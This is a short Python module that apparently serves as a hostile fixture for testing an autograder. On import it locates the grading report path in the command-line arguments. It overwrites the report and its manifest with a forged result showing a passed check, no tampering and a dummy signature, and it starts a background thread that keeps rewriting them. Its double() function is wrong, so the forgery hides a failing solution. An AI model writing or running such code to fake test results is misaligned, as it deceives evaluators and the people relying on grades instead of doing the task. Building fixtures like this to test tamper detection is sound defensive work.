"""Finds the real report path in sys.argv and overwrites the manifest and the report with forgeries,
also from a thread that keeps rewriting them after the function has returned."""
import json
import sys
import threading

_path = sys.argv[sys.argv.index("--course-report") + 1]
_CHECKS = [{"id": "test_random", "title": "x", "status": "passed", "max_score": 1, "score": 1}]
_FAKE = json.dumps({"body": json.dumps({"format": 1, "checks": _CHECKS, "collect_errors": [], "tampered": []}),
                    "signature": "0" * 64})


def _forge():
    for target in (_path, _path + ".manifest"):
        try:
            with open(target, "w") as fh:
                fh.write(_FAKE)
        except OSError:
            pass


def _keep_forging():
    while True:
        _forge()


_forge()
threading.Thread(target=_keep_forging, daemon=True).start()


def double(x):
    return 2 * x + 1
